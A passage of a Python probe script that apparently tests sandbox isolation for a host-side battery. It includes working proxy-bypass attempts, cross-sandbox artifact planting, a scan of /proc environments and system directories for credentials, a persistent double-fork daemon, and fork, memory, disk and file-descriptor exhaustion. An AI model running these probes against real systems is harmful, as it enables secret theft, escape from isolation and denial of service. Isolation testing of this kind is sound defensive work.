    ("host:port"), http has "url" and optional "host_headers", socks has "atyp"
    (domain/ipv4/ipv6), "host" and "port". Once a tunnel opens, the probe sends a TLS hello
    for "sni" if given, else "inner" (raw text), else the payload."""
    out = {}
    for a in attempts:
        try:
            out[a["key"]] = _egress_attempt(a, payload)
        except OSError as e:
            out[a["key"]] = oserr(e)
    return {"results": out}


def probe_bypass(hosts: list[str], payload: str) -> dict:
    """Reach `hosts` without the proxy, the ways a program that ignores it would: HTTPS by IP,
    QUIC, clients told to skip the proxy (urllib, curl); and whether /etc/hosts is writable."""
    import subprocess
    import urllib.error
    import urllib.request

    out = {}
    hello = _client_hello(None)
    # A QUIC v1 Initial's first bytes (long header, version 1): enough for a listener to see.
    quic = b"\xc3\x00\x00\x00\x01\x08" + os.urandom(8) + b"\x00" + payload.encode()
    for h in hosts:
        fam = socket.AF_INET6 if ":" in h else socket.AF_INET
        url_host = f"[{h}]" if ":" in h else h
        try:
            with socket.socket(fam, socket.SOCK_STREAM) as s:
                s.settimeout(1.5)
                s.connect((h, 443))
                s.sendall(hello)
                out[f"tls-by-ip {h}"] = "CONNECTED"
        except OSError as e:
            out[f"tls-by-ip {h}"] = oserr(e)
        try:
            with socket.socket(fam, socket.SOCK_DGRAM) as s:
                s.sendto(quic, (h, 443))
                out[f"quic {h}"] = "SENT"
        except OSError as e:
            out[f"quic {h}"] = oserr(e)
        no_proxy = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        try:
            with no_proxy.open(f"http://{url_host}/", timeout=1.5) as r:
                out[f"urllib-no-proxy {h}"] = f"HTTP {r.status}"
        except urllib.error.HTTPError as e:
            out[f"urllib-no-proxy {h}"] = f"HTTP {e.code}"
        except OSError as e:
            reason = getattr(e, "reason", e)
            out[f"urllib-no-proxy {h}"] = (
                oserr(reason) if isinstance(reason, OSError) else str(reason)[:40]
            )
        env = [f"-u{v}{s}" for v in ("HTTP", "HTTPS", "ALL") for s in ("_PROXY", "_proxy")]
        for scheme in ("http", "https"):
            argv = ["env", *env, "curl", "-sk", "--noproxy", "*", "-m", "2", "-o", "/dev/null"]
            argv += ["-w", "%{http_code}", f"{scheme}://{url_host}/"]
            try:
                p = subprocess.run(argv, capture_output=True, timeout=10, text=True)
                out[f"curl-no-proxy {scheme} {h}"] = f"exit {p.returncode} code {p.stdout}"
            except (OSError, subprocess.TimeoutExpired) as e:
                out[f"curl-no-proxy {scheme} {h}"] = oserr(e)
    # A hosts-file spoof only changes what the sandbox itself resolves: with no route, the
    # addresses above are where a spoofed name could lead, and the proxy resolves names on its
    # own. So /etc/hosts is only opened (zero bytes written) to report whether it could be.
    try:
        os.close(os.open("/etc/hosts", os.O_WRONLY | os.O_APPEND))
        out["/etc/hosts"] = "OPENED"
    except OSError as e:
        out["/etc/hosts"] = oserr(e)
    return {"results": out}


# ------------------------------------------------------------------------- cross-sandbox


def probe_plant(nonce: str, port: int) -> dict:
    """Leave things a neighbour might find: files, a listener, SysV IPC, an abstract socket."""
    import threading

    for d in ("/tmp", "/dev/shm", os.environ.get("HOME", "/workspace")):
        try:
            with open(f"{d}/abx-plant-{nonce}", "w") as f:
                f.write(f"PLANT-{nonce}")
        except OSError:
            pass
    key = int(nonce[:7], 16)
    libc.shmget(key, 4096, 0o1666)  # IPC_CREAT | 0666
    libc.msgget(key, 0o1666)
    libc.semget(key, 1, 0o1666)
    tcp = socket.socket()
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind(("127.0.0.1", port))
    tcp.listen(8)
    ab = socket.socket(socket.AF_UNIX)
    ab.bind(f"\0abx-plant-{nonce}")
    ab.listen(8)
    hits = []

    def accept(s):
        while True:
            c, _ = s.accept()
            hits.append(c.recv(100).decode("utf-8", "replace"))
            c.close()

    for s in (tcp, ab):
        threading.Thread(target=accept, args=(s,), daemon=True).start()
    signal.signal(signal.SIGUSR1, lambda *_: hits.append("SIGUSR1"))
    with open("/tmp/abx-plant.pid", "w") as f:
        f.write(str(os.getpid()))
    print(json.dumps({"planted": True, "pid": os.getpid()}), flush=True)
    end = time.monotonic() + 60
    while time.monotonic() < end:
        time.sleep(0.1)
        if hits:
            print(json.dumps({"hit": hits.pop()}), flush=True)
    return {"done": True}


def probe_find(nonce: str, port: int, pid: int) -> dict:
    out: dict = {}
    for d in ("/tmp", "/dev/shm", "/workspace", "/var/tmp", "/run"):
        try:
            found = [n for n in os.listdir(d) if nonce in n]
            out[f"ls {d}"] = found
            for n in found:
                out[f"read {d}/{n}"] = "DATA:" + read_some(f"{d}/{n}")
        except OSError as e:
            out[f"ls {d}"] = oserr(e)
    key = int(nonce[:7], 16)
    for label, fn in (
        ("shmget", lambda: libc.shmget(key, 0, 0)),
        ("msgget", lambda: libc.msgget(key, 0)),
        ("semget", lambda: libc.semget(key, 0, 0)),
    ):
        ret = fn()
        out[label] = "FOUND" if ret >= 0 else ename(ctypes.get_errno())
    out.update(probe_connect([("tcp", "127.0.0.1", port)], f"NEIGHBOUR-{nonce}")["results"])
    out["abstract"] = probe_abstract(f"abx-plant-{nonce}")["connect"]
    if pid > 0:
        out["kill"] = probe_kill(pid)["kill"]
    return {"results": out}


def probe_scan_secrets(patterns: list[str]) -> dict:
    """Search everything a process can see for credential-shaped strings; print only matches
    (the host compares them with the secrets it holds)."""
    import re

    rx = re.compile("|".join(patterns).encode())
    found: dict[str, list[str]] = {}

    def scan(where: str, data: bytes) -> None:
        for m in rx.finditer(data):
            hits = found.setdefault(m.group().decode("ascii", "replace"), [])
            if len(hits) < 3:
                hits.append(where)

    scan("env", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for f in ("environ", "cmdline"):
                try:
                    with open(f"/proc/{pid}/{f}", "rb") as fh:
                        scan(f"/proc/{pid}/{f}", fh.read(1 << 20))
                except OSError:
                    pass
    budget, deadline = 2000, time.monotonic() + 40
    for top in ("/opt", "/run", "/var", "/root", "/home", "/etc", "/workspace", "/tmp", "/srv"):
        for root, _dirs, names in _walk(top, 5):
            for n in names:
                budget -= 1
                if budget < 0 or time.monotonic() > deadline:
                    break
                p = os.path.join(root, n)
                try:
                    if os.path.isfile(p):
                        with open(p, "rb") as fh:
                            scan(p, fh.read(1 << 16))
                except OSError:
                    pass
    return {"matches": found, "files_left": budget}


# ------------------------------------------------------------------------- persistence


def probe_daemon(path: str, nonce: str) -> dict:
    """Double fork + setsid + ignore SIGHUP, then hold an exclusive flock forever."""
    import fcntl

    r, w = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            fd = os.open(path, os.O_CREAT | os.O_RDWR, 0o644)
            fcntl.flock(fd, fcntl.LOCK_EX)
            sys.argv[0] = f"abx-daemon-{nonce}"
            os.write(w, str(os.getpid()).encode())
            os.close(w)
            for n in range(3):
                os.close(n)
            while True:
                time.sleep(3600)
        os._exit(0)
    os.close(w)
    pid = os.read(r, 20).decode()
    return {"daemon_pid": int(pid or 0)}


# ------------------------------------------------------------------------- exhaustion


def probe_fork(limit: int) -> dict:
    pids = []
    err = "LIMIT_NOT_HIT"
    for _ in range(limit):
        try:
            pid = os.fork()
        except OSError as e:
            err = oserr(e)
            break
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        pids.append(pid)
    for pid in pids:
        os.kill(pid, signal.SIGKILL)
    for pid in pids:
        os.waitpid(pid, 0)
    return {"forked": len(pids), "stopped_by": err}


def probe_memory(mb: int) -> dict:
    chunks = []
    for i in range(mb // 16):
        chunks.append(bytearray(16 * 1024 * 1024))  # zero-filled: every page touched
        print(json.dumps({"progress_mb": (i + 1) * 16}), flush=True)
    return {"allocated_mb": len(chunks) * 16}


def probe_fill(path: str, mb: int) -> dict:
    block = os.urandom(1024 * 1024)
    written = 0
    err = "LIMIT_NOT_HIT"
    try:
        with open(path, "wb", buffering=0) as f:
            for _ in range(mb):
                f.write(block)
                written += 1
    except OSError as e:
        err = oserr(e)
    finally:
        try:
            os.unlink(path)
        except OSError:
            pass
    return {"written_mb": written, "stopped_by": err}


def probe_fds_exhaust(limit: int) -> dict:
    fds = []
    err = "LIMIT_NOT_HIT"
    for _ in range(limit):
        try:
            fds.append(os.open("/dev/null", os.O_RDONLY))
        except OSError as e:
            err = oserr(e)
            break
    for fd in fds:
        os.close(fd)
    return {"opened": len(fds), "stopped_by": err}


def probe_inotify(limit: int, hold: float) -> dict:
    fds = []
    err = "LIMIT_NOT_HIT"
    for _ in range(limit):
        fd = libc.inotify_init1(0)
        if fd < 0:
            err = ename(ctypes.get_errno())
            break
        fds.append(fd)
    print(json.dumps({"inotify": len(fds), "stopped_by": err}), flush=True)
    time.sleep(hold)
    for fd in fds:
        os.close(fd)
    return {"inotify": len(fds), "stopped_by": err}


def probe_cpu(workers: int, seconds: float) -> dict:
    t0 = time.monotonic()
    pids = []
    for _ in range(workers):
        pid = os.fork()
        if pid == 0:
            end = time.monotonic() + seconds
            while time.monotonic() < end:
                pass
            os._exit(0)
        pids.append(pid)
    for pid in pids:
        os.waitpid(pid, 0)
    wall = time.monotonic() - t0
    t = os.times()
    return {"cpu_s": t.children_user + t.children_system, "wall_s": wall}


# ------------------------------------------------------------------------- host information


def probe_host_view(files: list[str], dirs: list[str]) -> dict:
    """What the sandbox reads in files that could describe the host or its neighbours, the
    names it lists in directories that could hold host files, and what it counts of itself."""
    out: dict = {"files": {}, "dirs": {}}
    for p in files:
        try:
            with open(p, "rb") as f:
                out["files"][p] = f.read(262144).decode(errors="replace")
        except OSError as e:
            out["files"][p] = "ERR:" + oserr(e)
    for d in dirs:
        try:
            out["dirs"][d] = sorted(os.listdir(d))
        except OSError as e:
            out["dirs"][d] = "ERR:" + oserr(e)
    out["affinity"] = len(os.sched_getaffinity(0))
    tasks = 0
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                tasks += len(os.listdir(f"/proc/{pid}/task"))
            except OSError:
                pass
    out["tasks"] = tasks
    return out


# ------------------------------------------------------------------------- secrets on the wire
# (battery/checks_secrets.py)


def probe_secret_wire(requests: list[dict]) -> dict:
    """Send each request through the sandbox's HTTP proxy, its $NAME references filled from the
    environment (where secrets are placeholders), and report the raw answer, base64'd: the host
    decodes it itself. A request is {"key", "method", "url", "headers": {name: value}} plus
    "basic": "user:$NAME" for Basic credentials (built here, as git would)."""
    import base64

    proxy = _proxy_address("HTTP_PROXY")
    if proxy is None:
        return {"error": "no HTTP_PROXY in the environment"}
    out = {}
    for r in requests:
        host = r["url"].split("//", 1)[1].split("/", 1)[0]
        head = f"{r['method']} {r['url']} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n"
        for name, value in r.get("headers", {}).items():
            head += f"{name}: {os.path.expandvars(value)}\r\n"
        if "basic" in r:
            creds = base64.b64encode(os.path.expandvars(r["basic"]).encode()).decode()
            head += f"Authorization: Basic {creds}\r\n"
        try:
            with socket.create_connection(proxy, timeout=5) as s:
                s.sendall((head + "\r\n").encode("latin-1"))
                s.settimeout(3)
                out[r["key"]] = base64.b64encode(_read_until_close(s, 1 << 20)).decode()
        except OSError as e:
            out[r["key"]] = "ERR " + oserr(e)
    return {"results": out}


def main() -> None:
    name, args = sys.argv[1], json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
    result = globals()[f"probe_{name}"](**args)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
